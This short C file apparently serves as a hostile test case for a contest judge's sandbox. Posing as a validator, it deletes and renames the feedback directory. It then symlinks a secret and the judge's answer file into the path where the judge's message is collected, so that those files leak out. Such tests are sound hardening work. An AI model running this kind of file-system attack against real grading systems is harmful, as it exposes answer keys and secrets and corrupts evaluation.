// Attacks: files of the judge, as a validator that puts links to them where its message is collected.
#include "../hostile.h"
int main(void) {
  unlink("/box/feedback/judgemessage.txt");
  rmdir("/box/feedback");
  rename("/box/feedback", "/box/other");
  symlink(given("HOSTILE_SECRET"), "/box/target");
  mkdir("/box/feedback", 0777);
  symlink("/judge/answer", "/box/feedback/judgemessage.txt");
  return 43;
}
